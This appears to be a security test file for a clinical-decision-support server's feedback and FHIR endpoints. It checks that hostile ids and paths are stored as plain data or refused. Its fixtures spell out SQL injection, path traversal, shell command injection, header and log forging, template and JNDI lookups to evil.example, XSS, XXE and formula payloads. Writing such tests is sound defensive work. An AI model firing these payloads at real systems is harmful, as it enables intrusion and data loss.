/** S36, S61: whatever stands where an id or a path is expected. It is compared or kept as data, and never used as a name. */
import Database from 'libsql';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { Agent } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pino } from 'pino';
import { orderSign, orderSignPath } from '../http/support.js';
import { sqliteStore, type OpenStore } from '../support/kept.js';
import { expectNoPollution, feedbackPath, listening, post, send, wholeApp, type Answer, type Edge } from './edge.js';

/** Stands in every id that is made up, so that its trace is found wherever it went. */
const mark = 'zq7mark';

const sql = [
  `'; DROP TABLE feedback; -- ${mark}`,
  `${mark}'); DELETE FROM feedback; --`,
  `${mark}' OR '1'='1`,
  `${mark}" OR ""="`,
  `${mark}'/**/UNION/**/SELECT/**/*/**/FROM/**/sqlite_master--`,
  `${mark}'||(SELECT sql FROM sqlite_master)||'`,
  `${mark}'; ATTACH DATABASE '/tmp/${mark}.sqlite' AS evil; --`,
  `${mark}'; PRAGMA writable_schema = ON; --`,
  `${mark}'; VACUUM INTO '${mark}.sqlite'; --`,
  `load_extension('${mark}')`,
  `${mark}%' ESCAPE '%`,
  `${mark}\\'; DROP TABLE feedback; --`,
  `?1 :${mark} @${mark} $${mark}`,
  `${mark}＇ OR 1=1`,
];

const paths = [
  `../${mark}`,
  `../../${mark}`,
  `../../../../../../tmp/${mark}`,
  `/tmp/${mark}`,
  `/etc/${mark}`,
  `..\\..\\${mark}`,
  `C:\\${mark}`,
  `\\\\host\\share\\${mark}`,
  `file:///tmp/${mark}`,
  `....//....//${mark}`,
  `..;/${mark}`,
  `..%2f${mark}`,
  `%2e%2e%2f${mark}`,
  `%252e%252e%252f${mark}`,
  `..%c0%af${mark}`,
  `~/${mark}`,
  `$HOME/${mark}`,
  `./${mark}`,
  `${mark}/../${mark}`,
  `//${mark}`,
  `${mark}.sqlite`,
  `${mark}:stream`,
  `|touch ${mark}`,
  `;touch ${mark};`,
  `$(touch ${mark})`,
  `\`touch ${mark}\``,
  `&& touch ${mark}`,
];

const bytes = [
  `${mark}\r\nX-Evil: a`,
  `${mark}\r\n\r\nHTTP/1.1 200 OK\r\n\r\n`,
  `${mark}\n{"level":60,"msg":"forged"}`,
  `${mark}\u001b[2J\u001b[31m`,
  `${mark}\u0007\b\u007f`,
  `${mark}\u0085\u2028\u2029`,
  `${mark}\t`,
  ` ${mark} `,
  `${mark}\u00a0`,
  `${mark}\u200b\u200d`,
  `\u202e${mark}\u2066`,
  `${mark}\ufeff`,
  `${mark}é`,
  `${mark}e\u0301`,
  `${mark}ﬀ`,
  `${mark}İıſK`,
  `${mark}😀`,
  `${mark}👩‍👩‍👧`,
  `${mark}\uffff`,
  `${mark}٣`,
  `${mark}Ω`,
];

const templates = [
  `\${${mark}}`,
  `{{${mark}}}`,
  `{{constructor.constructor('return process')().exit()}}${mark}`,
  `<%= ${mark} %>`,
  `#{${mark}}`,
  `\${jndi:ldap://evil.example/${mark}}`,
  `%{${mark}}`,
  `%s%n%x%d${mark}`,
  `<script>${mark}</script>`,
  `"><img src=x onerror=${mark}>`,
  `javascript:${mark}`,
  `'"\`${mark}`,
  `{"$gt":"${mark}"}`,
  `[object Object]${mark}`,
  `<!--#exec cmd="${mark}"-->`,
  `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>${mark}`,
  `=cmd|'/c ${mark}'!A1`,
  `*)(uid=*${mark}`,
];

/** Without the mark: their danger is in being exactly this. */
const names = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    'toJSON',
    'then',
  ],
  ...[
    'null',
    'undefined',
    'true',
    'false',
    'NaN',
    'Infinity',
    '-0',
    '0',
    '-1',
    '1e400',
    '0x10',
    '9007199254740993',
    '[]',
    '{}',
  ],
  ...[
    'CON',
    'nul',
    'feedback',
    'feedback.sqlite',
    'sqlite_master',
    'index',
    'length',
    'id',
    '*',
    '%',
    '_',
    '#',
    '?',
    '&',
    '=',
  ],
];

const long = [`${mark}${'x'.repeat(200 - mark.length)}`, `${mark}${'😀'.repeat(200 - mark.length)}`];
const tooLong = [
  `${mark}${'x'.repeat(201 - mark.length)}`,
  `${mark}${'x'.repeat(10_240)}`,
  `${'../'.repeat(3000)}${mark}`,
];

const withNul = [`${mark}\0`, `\0${mark}`, `${mark}\0.json`];

const kept = [...sql, ...paths, ...bytes, ...templates, ...names, ...long];
const ids = [...kept, ...withNul, ...tooLong];

const root = mkdtempSync(join(tmpdir(), 'ids-'));
const folder = join(root, 'data');
const lines: string[] = [];
let store: OpenStore;
let edge: Edge;
const agent = new Agent({ keepAlive: true, maxSockets: 1 });

beforeAll(async () => {
  store = sqliteStore(folder);
  await store.database();
  const log = pino({ base: null }, { write: (line: string) => void lines.push(line) });
  edge = await listening(wholeApp({ feedbackStore: store, log }));
});
afterAll(async () => {
  agent.destroy();
  await edge.close();
  await store.close();
  rmSync(root, { recursive: true });
});
beforeEach(() => {
  lines.length = 0;
});
afterEach(() => {
  expectNoPollution();
  // S61: one call, one line; no byte of it is a control byte, nothing of it was the client's to fill.
  for (const line of lines) {
    expect(line).not.toContain(mark);
    expect(line).toMatch(/^\{[\x20-\x7e]*\}\n$/);
  }
});

interface Kept {
  readonly card: string;
  readonly accepted: string;
  readonly reason_code: string;
  readonly reason_system: string;
}

/** With a connection of its own: what it sees is what is on disk. */
function rows(): readonly Kept[] {
  const database = new Database(join(folder, 'feedback.sqlite'));
  try {
    return database.prepare('SELECT * FROM feedback ORDER BY rowid').all() as Kept[];
  } finally {
    database.close();
  }
}

function feedbackOf(entry: object): string {
  return JSON.stringify({ feedback: [{ card: 'card', outcomeTimestamp: '2026-03-02T10:00:00Z', ...entry }] });
}

function expectNothingOf(id: string, text: string): void {
  expect(text).not.toContain(mark);
  // Shorter ones may stand in any words.
  if (id.length > 9) expect(text).not.toContain(id);
}

it('the corpus holds at least 100 ids that differ', () => {
  expect(new Set(ids).size).toBeGreaterThanOrEqual(100);
  expect(new Set(ids).size).toBe(ids.length);
});

describe('S36: ids in feedback', () => {
  it.each(kept.map((id) => [JSON.stringify(id).slice(0, 60), id]))(
    '%s is kept as it came, wherever it stands',
    async (_name, id) => {
      const before = rows().length;
      const places = [
        { card: id, outcome: 'overridden' },
        { outcome: 'accepted', acceptedSuggestions: [{ id }] },
        { outcome: 'overridden', overrideReason: { reason: { code: id, system: id } } },
      ];
      for (const place of places) {
        expect((await send(edge.port, post(feedbackPath, feedbackOf(place)), agent)).status).toBe(200);
      }
      expect(rows().slice(before)).toMatchObject([
        { card: id },
        { accepted: JSON.stringify([id]) },
        { reason_code: id, reason_system: id },
      ]);
      expect(lines).toHaveLength(places.length);
    },
  );

  // The driver cuts text at NUL: other entries would become the same, and an acknowledged one be lost.
  it.each(withNul.map((id) => [JSON.stringify(id), id]))('%s is refused', async (_name, id) => {
    const before = rows().length;
    const { status } = await send(
      edge.port,
      post(feedbackPath, feedbackOf({ card: id, outcome: 'overridden' })),
      agent,
    );
    expect([status, rows().length]).toEqual([400, before]);
  });

  it.each(tooLong.map((id) => [id.length, id]))(
    'an id of %i characters is refused, and nothing of it kept',
    async (_length, id) => {
      const before = rows().length;
      for (const place of [
        { card: id, outcome: 'overridden' },
        { outcome: 'accepted', acceptedSuggestions: [{ id }] },
        { outcome: 'overridden', overrideReason: { reason: { code: id } } },
      ]) {
        const answer = await send(edge.port, post(feedbackPath, feedbackOf(place)), agent);
        expect(answer.status).toBe(400);
        expectNothingOf(id, answer.text);
      }
      expect(rows()).toHaveLength(before);
    },
  );
});

function expectRefusedSearch(id: string, value: string, { status, text }: Answer): void {
  // Node takes 16 KB of head.
  expect(status).toBe(value.length > 7000 && status !== 400 ? 431 : 400);
  expectNothingOf(id, text);
}

/** The same bytes as one path segment: whole, and with what a path may hold left as it is. */
function segments(id: string): readonly string[] {
  const escaped = Buffer.from(id)
    .toString('latin1')
    .replace(/[^\w.~-]/g, (byte) => `%${byte.charCodeAt(0).toString(16).padStart(2, '0')}`);
  const raw = Buffer.from(id)
    .toString('latin1')
    .replace(/[^!#-~]|[#?]/g, (byte) => `%${byte.charCodeAt(0).toString(16).padStart(2, '0')}`);
  return [...new Set([escaped, raw])].filter((segment) => segment !== '');
}

describe('S36: ids in paths', () => {
  it.each(ids.map((id) => [JSON.stringify(id).slice(0, 60), id]))(
    '%s names nothing that we have',
    async (_name, id) => {
      const before = rows().length;
      for (const segment of segments(id)) {
        const asked = [
          post(`/cds-services/${segment}`, JSON.stringify(orderSign())),
          post(`/cds-services/${segment}/feedback`, feedbackOf({ outcome: 'overridden' })),
          { path: `/rules/${segment}` },
          { path: `/rules/${segment}`, headers: { Accept: 'text/html' } },
          { path: `/fhir/${segment}` },
          { path: `/fhir/Patient/${segment}` },
          { path: `/assets/${segment}` },
          { path: `/health/${segment}` },
          { path: `/${segment}` },
        ];
        for (const one of asked) {
          const answer = await send(edge.port, one, agent);
          expect([400, 404, 405, 431]).toContain(answer.status);
          expectNothingOf(id, answer.text);
          expectNothingOf(segment, answer.text);
          expectNothingOf(id, JSON.stringify(answer.headers));
        }
      }
      expect(rows()).toHaveLength(before);
    },
  );

  it.each(ids.map((id) => [JSON.stringify(id).slice(0, 60), id]))(
    '%s in a query changes no answer of ours',
    async (_name, id) => {
      const value = segments(id)[0] ?? '';
      for (const query of [`?${value}`, `?id=${value}`, `?${value}=1&${value}[a]=2`]) {
        const plain = await send(edge.port, post(orderSignPath, '{}'), agent);
        const asked = await send(edge.port, post(orderSignPath + query, '{}'), agent);
        // Node takes 16 KB of head.
        if (asked.status === 431) expect(query.length).toBeGreaterThan(15_000);
        else expect([asked.status, asked.text]).toEqual([plain.status, plain.text]);
      }
    },
  );

  // `a|` asks for any code of a system; the demo server takes every system for the unwritten one of an id.
  it.each(ids.filter((id) => !id.includes('||')).map((id) => [JSON.stringify(id).slice(0, 60), id]))(
    '%s in a FHIR search finds nobody',
    async (_name, id) => {
      const value = segments(id)[0] ?? '';
      const byId = await send(edge.port, { path: `/fhir/Patient?_id=${value}&_count=5` }, agent);
      if (byId.status === 200) expect(JSON.parse(byId.text)).toMatchObject({ resourceType: 'Bundle', total: 0 });
      else expectRefusedSearch(id, value, byId);
      const byName = await send(edge.port, { path: `/fhir/Patient?${value}=1&_count=${value}` }, agent);
      if (byName.status === 200) expect(JSON.parse(byName.text)).toMatchObject({ resourceType: 'Bundle' });
      else expectRefusedSearch(id, value, byName);
    },
  );

  it.each(ids.map((id) => [JSON.stringify(id).slice(0, 60), id]))(
    '%s as patient or user of a call is refused or is data',
    async (_name, id) => {
      const isFhirId = /^[A-Za-z0-9\-.]{1,64}$/.test(id);
      const asPatient = await send(
        edge.port,
        post(orderSignPath, JSON.stringify(orderSign({}, { patientId: id }))),
        agent,
      );
      expect(asPatient.status).toBe(isFhirId ? 200 : 400);
      expectNothingOf(id, asPatient.text);
      const asUser = await send(edge.port, post(orderSignPath, JSON.stringify(orderSign({}, { userId: id }))), agent);
      expect(asUser.status).toBe(200);
      expectNothingOf(id, asUser.text);
    },
  );
});

describe('S36: afterwards', () => {
  it('the table stands, and no file was made but its own', () => {
    expect(rows().length).toBeGreaterThanOrEqual(kept.length);
    expect(readdirSync(root)).toEqual(['data']);
    expect(readdirSync(folder).filter((name) => !/^feedback\.sqlite(-wal|-shm)?$/.test(name))).toEqual([
      'feedback-spool',
    ]);
    expect(readdirSync(join(folder, 'feedback-spool'))).toEqual([]);
    for (const id of kept.filter((name) => name.includes(mark) && !name.includes('\0'))) {
      expect([folder, root, process.cwd(), tmpdir(), '/'].filter((place) => existsSync(resolve(place, id)))).toEqual(
        [],
      );
    }
    for (const place of [process.cwd(), tmpdir(), '/tmp', '/']) {
      expect(readdirSync(place).filter((name) => name.includes(mark))).toEqual([]);
    }
  });
});
